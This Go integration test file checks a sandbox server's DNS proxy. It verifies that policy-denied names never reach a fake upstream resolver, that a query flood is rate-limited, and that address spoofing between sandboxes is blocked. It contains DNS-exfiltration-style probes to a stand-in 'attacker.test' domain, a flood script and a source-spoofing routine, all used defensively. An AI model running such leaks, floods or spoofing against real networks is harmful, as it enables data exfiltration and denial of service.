package integration

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/useshards/shard/client"
	"github.com/vishvananda/netlink"
	"github.com/vishvananda/netns"
	"golang.org/x/net/dns/dnsmessage"
)

// fakeResolver is the server's upstream in the DNS tests: a DNS server on
// loopback (UDP and TCP) that answers A queries under example.test with
// 198.18.253.9 (outside the egress boundary), NXDOMAIN to the rest, and
// counts every question that reaches it, by name. A name it never saw
// never left the server.
type fakeResolver struct {
	addr string
	mu   sync.Mutex
	seen map[string]int
}

func startFakeResolver(t *testing.T) *fakeResolver {
	t.Helper()
	var pc net.PacketConn
	var ln net.Listener
	var err error
	for range 20 { // the same free port for UDP and TCP
		if pc, err = net.ListenPacket("udp4", "127.0.0.1:0"); err != nil {
			t.Fatal(err)
		}
		if ln, err = net.Listen("tcp4", pc.LocalAddr().String()); err == nil {
			break
		}
		pc.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	r := &fakeResolver{addr: pc.LocalAddr().String(), seen: map[string]int{}}
	t.Cleanup(func() { pc.Close(); ln.Close() })
	go func() {
		buf := make([]byte, 65535)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			if resp := r.answer(buf[:n]); resp != nil {
				pc.WriteTo(resp, from)
			}
		}
	}()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				for {
					var l [2]byte
					if _, err := c.Read(l[:]); err != nil {
						return
					}
					q := make([]byte, binary.BigEndian.Uint16(l[:]))
					if _, err := readFull(c, q); err != nil {
						return
					}
					resp := r.answer(q)
					if resp == nil {
						return
					}
					c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(resp))), resp...))
				}
			}()
		}
	}()
	return r
}

func readFull(c net.Conn, b []byte) (int, error) {
	n := 0
	for n < len(b) {
		m, err := c.Read(b[n:])
		n += m
		if err != nil {
			return n, err
		}
	}
	return n, nil
}

func (r *fakeResolver) answer(q []byte) []byte {
	var p dnsmessage.Parser
	h, err := p.Start(q)
	if err != nil {
		return nil
	}
	qs, _ := p.AllQuestions()
	r.mu.Lock()
	for _, qq := range qs {
		r.seen[strings.TrimSuffix(strings.ToLower(qq.Name.String()), ".")]++
	}
	r.mu.Unlock()
	rcode := dnsmessage.RCodeNameError
	var a *dnsmessage.Question
	if len(qs) == 1 {
		n := strings.ToLower(qs[0].Name.String())
		if n == "example.test." || strings.HasSuffix(n, ".example.test.") {
			rcode = dnsmessage.RCodeSuccess
			if qs[0].Type == dnsmessage.TypeA && qs[0].Class == dnsmessage.ClassINET {
				a = &qs[0]
			}
		}
	}
	b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: h.ID, Response: true, RecursionAvailable: true, RCode: rcode})
	b.StartQuestions()
	for _, qq := range qs {
		b.Question(qq)
	}
	if a != nil {
		b.StartAnswers()
		b.AResource(dnsmessage.ResourceHeader{Name: a.Name, Class: dnsmessage.ClassINET, TTL: 60}, dnsmessage.AResource{A: [4]byte{198, 18, 253, 9}})
	}
	out, _ := b.Finish()
	return out
}

// count is how many questions for name (no trailing dot, lower case)
// reached the resolver; prefix counts every name that starts with it.
func (r *fakeResolver) count(name string) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.seen[name]
}

func (r *fakeResolver) countPrefix(prefix string) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	n := 0
	for k, v := range r.seen {
		if strings.HasPrefix(k, prefix) {
			n += v
		}
	}
	return n
}

// dnsClient is a DNS client in Python (the python image has no dig): it
// sends one query to the sandbox's name server, over udp or tcp, with the
// questions name/type/class given, and prints the answer's rcode, or
// "timeout". With "flood N NAME-PREFIX" it sends N UDP queries without
// waiting for answers.
const dnsClient = `
import random, socket, struct, sys
ns = [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')][0]
def name(n):
    return b''.join(bytes([len(l)]) + l.encode() for l in n.strip('.').split('.') if l) + b'\0'
def query(qs):
    body = b''.join(name(n) + struct.pack('>HH', int(t), int(c)) for n, t, c in (q.split('/') for q in qs))
    return struct.pack('>HHHHHH', random.randrange(65536), 0x0100, len(qs), 0, 0, 0) + body
if sys.argv[1] == 'flood':
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(int(sys.argv[2])):
        s.sendto(query(['%s%d.attacker.test/1/1' % (sys.argv[3], i)]), (ns, 53))
    sys.exit(0)
msg = query(sys.argv[2:])
try:
    if sys.argv[1] == 'udp':
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.sendto(msg, (ns, 53))
        r = s.recv(65535)
    else:
        s = socket.create_connection((ns, 53), 3)
        s.sendall(struct.pack('>H', len(msg)) + msg)
        r = b''
        while len(r) < 2:
            r += s.recv(2 - len(r))
        n = struct.unpack('>H', r)[0]
        r = b''
        while len(r) < n:
            r += s.recv(n - len(r))
    print(r[3] & 15)
except socket.timeout:
    print('timeout')
`

// dnsAsk sends one query from sandbox id and returns the rcode it got.
func dnsAsk(t *testing.T, id, proto string, questions ...string) string {
	t.Helper()
	return strings.TrimSpace(execOK(t, id, append([]string{"python3", "-c", dnsClient, proto}, questions...)...))
}

const (
	rcodeOK      = "0"
	rcodeNX      = "3"
	rcodeRefused = "5"
)

// TestDNSPolicyNoLeak: through the server's DNS proxy, a name the
// sandbox's policy does not allow never reaches the upstream resolver
// (counted at a fake one the test runs), over UDP or TCP, alone or hidden
// among other questions; the names it allows do, with the policy's domain
// semantics; one sandbox flooding the proxy does not starve another; and
// a sandbox cannot take another's address to borrow its policy (runc: the
// test itself adds the address in the sandbox's namespace, more than a
// sandbox can do).
func TestDNSPolicyNoLeak(t *testing.T) {
	e := need(t)
	up := startFakeResolver(t)
	restartWith(t, "--dns-upstream", up.addr)
	sb := create(t, client.CreateRequest{Image: python, Name: "dns-leak"})
	other := create(t, client.CreateRequest{Image: python, Name: "dns-other"})
	set := func(p client.Policy) {
		t.Helper()
		if _, err := e.c.SetPolicy(ctxT(t), sb.ID, p); err != nil {
			t.Fatal(err)
		}
	}
	// forwarded: the query for name reached the upstream once more, and
	// the answer came back.
	forwarded := func(proto, name string, qs ...string) {
		t.Helper()
		if len(qs) == 0 {
			qs = []string{name + "/1/1"}
		}
		before := up.count(name)
		if got := dnsAsk(t, sb.ID, proto, qs...); got != rcodeOK && got != rcodeNX {
			t.Fatalf("%s over %s: rcode %s, want an upstream's answer", name, proto, got)
		}
		if up.count(name) != before+1 {
			t.Fatalf("%s over %s did not reach the upstream", name, proto)
		}
	}
	// refused: the proxy answered REFUSED and none of names reached the
	// upstream.
	refused := func(proto string, qs []string, names ...string) {
		t.Helper()
		before := map[string]int{}
		for _, n := range names {
			before[n] = up.count(n)
		}
		got := dnsAsk(t, sb.ID, proto, qs...)
		for _, n := range names {
			if c := up.count(n) - before[n]; c != 0 {
				t.Errorf("%s reached the upstream %d times (query %v over %s)", n, c, qs, proto)
			}
		}
		if got != rcodeRefused {
			t.Errorf("query %v over %s: rcode %s, want REFUSED (5)", qs, proto, got)
		}
	}
	one := func(n string) []string { return []string{n + "/1/1"} }

	t.Log("no policy: everything is forwarded")
	forwarded("udp", "nopolicy.attacker.test")
	forwarded("tcp", "nopolicy-tcp.attacker.test")

	t.Log("deny-all: nothing is")
	set(client.Policy{DenyAll: true})
	refused("udp", one("s3cr3t-udp.attacker.test"), "s3cr3t-udp.attacker.test")
	refused("tcp", one("s3cr3t-tcp.attacker.test"), "s3cr3t-tcp.attacker.test")
	refused("udp", []string{"s3cr3t-txt.attacker.test/16/1"}, "s3cr3t-txt.attacker.test")
	refused("udp", one("www.example.test"), "www.example.test")
	// The C library's resolver, as any program in the sandbox uses it.
	res, err := e.c.Exec(ctxT(t), sb.ID, client.ExecRequest{Argv: []string{"python3", "-c",
		"import socket; socket.getaddrinfo('s3cr3t-gai.attacker.test', 80)"}})
	if err != nil || res.ExitCode == 0 {
		t.Fatalf("getaddrinfo under deny-all: %v %+v", err, res)
	}
	if n := up.countPrefix("s3cr3t-gai.attacker.test"); n != 0 {
		t.Fatalf("getaddrinfo's queries reached the upstream %d times", n)
	}
	set(client.Policy{DenyAll: true, Allow: []string{"198.18.0.0/15"}})
	refused("udp", one("cidr-only.attacker.test"), "cidr-only.attacker.test")

	t.Log("allow example.test: it and its subdomains only")
	set(client.Policy{DenyAll: true, Allow: []string{"example.test"}})
	forwarded("udp", "www.example.test")
	forwarded("tcp", "example.test")
	forwarded("udp", "a.b.example.test", "A.B.Example.TEST/1/1")
	refused("udp", one("leak.attacker.test"), "leak.attacker.test")
	refused("tcp", one("leak-tcp.attacker.test"), "leak-tcp.attacker.test")
	refused("udp", one("example.test.attacker.test"), "example.test.attacker.test")
	refused("udp", one("notexample.test"), "notexample.test")
	refused("udp", []string{"multi.example.test/1/1", "multi.attacker.test/1/1"}, "multi.example.test", "multi.attacker.test")
	refused("tcp", []string{"multi-tcp.example.test/1/1", "multi-tcp.attacker.test/1/1"}, "multi-tcp.example.test", "multi-tcp.attacker.test")
	refused("udp", []string{"chaos.example.test/16/3"}, "chaos.example.test")
	refused("udp", []string{"any.example.test/1/255"}, "any.example.test")

	t.Log("allow *.example.test: subdomains only")
	set(client.Policy{Allow: []string{"*.example.test"}})
	forwarded("udp", "sub.example.test")
	refused("udp", one("example.test"), "example.test")

	t.Log("deny foo.test only: everything else")
	set(client.Policy{Deny: []string{"foo.test"}})
	refused("udp", one("x.foo.test"), "x.foo.test")
	refused("tcp", one("foo.test"), "foo.test")
	forwarded("udp", "bar.test")

	t.Log("cleared: everything again")
	if err := e.c.ClearPolicy(ctxT(t), sb.ID); err != nil {
		t.Fatal(err)
	}
	forwarded("udp", "cleared.attacker.test")

	t.Log("flood: one sandbox does not starve another")
	start := time.Now()
	execOK(t, sb.ID, "python3", "-c", dnsClient, "flood", "3000", "flood")
	if got := dnsAsk(t, other.ID, "udp", "other.example.test/1/1"); got != rcodeOK {
		t.Fatalf("another sandbox during a flood: rcode %s", got)
	}
	time.Sleep(500 * time.Millisecond)
	n := up.countPrefix("flood")
	limit := 200 + int(time.Since(start).Seconds()*100) + 50
	t.Logf("flood: 3000 queries sent, %d forwarded in %v (share: burst 200, 100/s)", n, time.Since(start).Round(time.Millisecond))
	if n > limit {
		t.Fatalf("a flood of 3000 queries: %d forwarded, more than the sandbox's share (%d)", n, limit)
	}

	t.Run("spoofed source", func(t *testing.T) { dnsSpoof(t, up) })
}

// dnsSpoof: a runc sandbox under deny-all sends from another sandbox's
// address (which has no policy) and from a free one: the bridge drops it
// before the proxy sees it.
func dnsSpoof(t *testing.T, up *fakeResolver) {
	e := need(t)
	a := create(t, client.CreateRequest{Image: busybox, Provider: "runc", Name: "dns-spoofer"})
	b := create(t, client.CreateRequest{Image: busybox, Provider: "runc", Name: "dns-victim"})
	if _, err := e.c.SetPolicy(ctxT(t), a.ID, client.Policy{DenyAll: true}); err != nil {
		t.Fatal(err)
	}
	subnet := netip.MustParsePrefix(e.subnet)
	gw := netip.AddrPortFrom(subnet.Addr().Next(), 53)
	free := netip.MustParseAddr(a.IP)
	for range 200 { // an address no sandbox has
		free = free.Next()
		if free.String() != b.IP {
			break
		}
	}
	nsPath := filepath.Join(e.runDir, "netns", a.ID)
	// ask sends one A query for name from src (an address of a's eth0, or
	// invalid: its own) and returns the rcode, or "timeout".
	ask := func(src netip.Addr, name string) string {
		t.Helper()
		var got string
		err := inNetnsPath(nsPath, func() (err error) {
			got, err = dnsRcodeFrom(src, gw, name)
			return err
		})
		if err != nil {
			t.Fatalf("query %s from %v in %s: %v", name, src, nsPath, err)
		}
		return got
	}
	// Its own address: the proxy answers, and refuses.
	if got := ask(netip.Addr{}, "own.attacker.test"); got != rcodeRefused || up.count("own.attacker.test") != 0 {
		t.Fatalf("from its own address: rcode %s, upstream saw it %d times", got, up.count("own.attacker.test"))
	}
	h, err := netlink.NewHandleAt(mustNS(t, nsPath))
	if err != nil {
		t.Fatal(err)
	}
	defer h.Close()
	eth, err := h.LinkByName("eth0")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range []string{b.IP, free.String()} {
		spoof := netip.MustParseAddr(s)
		addr := &netlink.Addr{IPNet: &net.IPNet{IP: spoof.AsSlice(), Mask: net.CIDRMask(32, 32)}}
		if err := h.AddrAdd(eth, addr); err != nil {
			t.Fatal(err)
		}
		name := "spoofed-" + strings.ReplaceAll(s, ".", "-") + ".attacker.test"
		got := ask(spoof, name)
		h.AddrDel(eth, addr)
		if c := up.count(name); c != 0 || got != "timeout" {
			t.Fatalf("from %s (spoofed): rcode %s, the upstream saw it %d times", s, got, c)
		}
	}
	// The victim itself, from its own address, is not limited: what the
	// spoof would have leaked.
	var got string
	err = inNetnsPath(filepath.Join(e.runDir, "netns", b.ID), func() (err error) {
		got, err = dnsRcodeFrom(netip.Addr{}, gw, "victim.attacker.test")
		return err
	})
	if err != nil || got != rcodeNX || up.count("victim.attacker.test") != 1 {
		t.Fatalf("from the victim: rcode %s (%v), upstream saw it %d times", got, err, up.count("victim.attacker.test"))
	}
}

// dnsRcodeFrom sends one A query for name to gw from src (invalid: any
// address) and returns the answer's rcode, or "timeout".
func dnsRcodeFrom(src netip.Addr, gw netip.AddrPort, name string) (string, error) {
	var laddr *net.UDPAddr
	if src.IsValid() {
		laddr = &net.UDPAddr{IP: src.AsSlice()}
	}
	c, err := net.DialUDP("udp4", laddr, net.UDPAddrFromAddrPort(gw))
	if err != nil {
		return "", err
	}
	defer c.Close()
	bld := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 77, RecursionDesired: true})
	bld.StartQuestions()
	bld.Question(dnsmessage.Question{Name: dnsmessage.MustNewName(name + "."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})
	q, err := bld.Finish()
	if err != nil {
		return "", err
	}
	c.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := c.Write(q); err != nil {
		return "", err
	}
	buf := make([]byte, 4096)
	if _, err := c.Read(buf); err != nil {
		if ne, ok := err.(net.Error); ok && ne.Timeout() {
			return "timeout", nil
		}
		return "", err
	}
	return fmt.Sprint(buf[3] & 15), nil
}

// inNetnsPath runs fn on a thread inside the namespace bind-mounted at
// path (the thread is never reused).
func inNetnsPath(path string, fn func() error) error {
	errc := make(chan error, 1)
	go func() {
		runtime.LockOSThread() // never unlocked: the thread dies with the goroutine
		ns, err := netns.GetFromPath(path)
		if err != nil {
			errc <- err
			return
		}
		defer ns.Close()
		if err := netns.Set(ns); err != nil {
			errc <- err
			return
		}
		errc <- fn()
	}()
	return <-errc
}

func mustNS(t *testing.T, path string) netns.NsHandle {
	t.Helper()
	ns, err := netns.GetFromPath(path)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ns.Close() })
	return ns
}
